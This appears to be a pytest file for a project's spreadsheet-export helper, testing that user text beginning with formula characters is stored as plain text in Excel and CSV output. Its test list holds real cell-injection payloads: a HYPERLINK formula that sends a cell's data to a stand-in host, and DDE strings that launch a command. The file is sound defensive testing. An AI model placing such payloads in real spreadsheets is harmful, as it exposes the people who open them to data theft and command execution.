"""User text in a generated spreadsheet or CSV file is shown as text, never run as a formula."""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal

import openpyxl
import pytest

from donghanh.core.spreadsheets import spreadsheet_row, spreadsheet_text

# What a spreadsheet program takes for the start of a formula or a command (the cell-injection
# prefixes), each followed by what an attacker would put after it.
DANGEROUS = [
    '=HYPERLINK("http://example.invalid/?"&A1,"Xem")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_formula_start_is_kept_as_text(value: str) -> None:
    safe = spreadsheet_text(value)
    assert safe == "'" + value
    assert safe[0] not in "=+-@\t\r"


@pytest.mark.parametrize(
    "value", ["", "Nguyễn Thị Hoa", "Lừa đảo =việc làm", "1.500.000 ₫", "王小红", "'quoted"]
)
def test_ordinary_text_is_left_alone(value: str) -> None:
    assert spreadsheet_text(value) == value


def test_a_row_changes_text_only() -> None:
    day = datetime.date(2026, 3, 2)
    row = spreadsheet_row(["=1+1", 5, -3, Decimal("-1.5"), day, None, "Hà Nội"])
    assert row == ["'=1+1", 5, -3, Decimal("-1.5"), day, None, "Hà Nội"]


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_workbook_holds_the_text_as_a_string_cell(value: str) -> None:
    workbook = openpyxl.Workbook(write_only=True)
    sheet = workbook.create_sheet("Sheet")
    sheet.append(spreadsheet_row([value, 7]))
    buffer = io.BytesIO()
    workbook.save(buffer)
    cells = next(openpyxl.load_workbook(buffer).worksheets[0].iter_rows())
    # XML keeps a carriage return as a line feed; the cell is still text behind its guard.
    assert cells[0].data_type == "s" and cells[0].value == "'" + value.replace("\r", "\n")
    assert cells[1].data_type == "n" and cells[1].value == 7


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_csv_file_holds_the_text_with_its_guard(value: str) -> None:
    out = io.StringIO()
    csv.writer(out).writerow(spreadsheet_row([value]))
    (read,) = csv.reader(io.StringIO(out.getvalue()))
    assert read == ["'" + value]


def test_every_module_that_writes_a_spreadsheet_uses_the_one_helper() -> None:
    import re
    from pathlib import Path

    # openpyxl's Workbook or a csv writer, called in the module (not a class merely named so).
    writes = re.compile(r"\b(Workbook|writerow|DictWriter)\(")
    root = Path(__file__).resolve().parents[2]
    writers = []
    for path in root.rglob("*.py"):
        if "tests" in path.parts or "migrations" in path.parts or path.parts[-2] == "testing":
            continue
        text = path.read_text(encoding="utf-8")
        if writes.search(text):
            writers.append(path)
            assert "donghanh.core.spreadsheets" in text, (
                f"{path.relative_to(root)} writes a spreadsheet without donghanh.core.spreadsheets"
            )
    # The case exports and the donor logframe at least: the check looks at real files.
    assert len(writers) >= 2
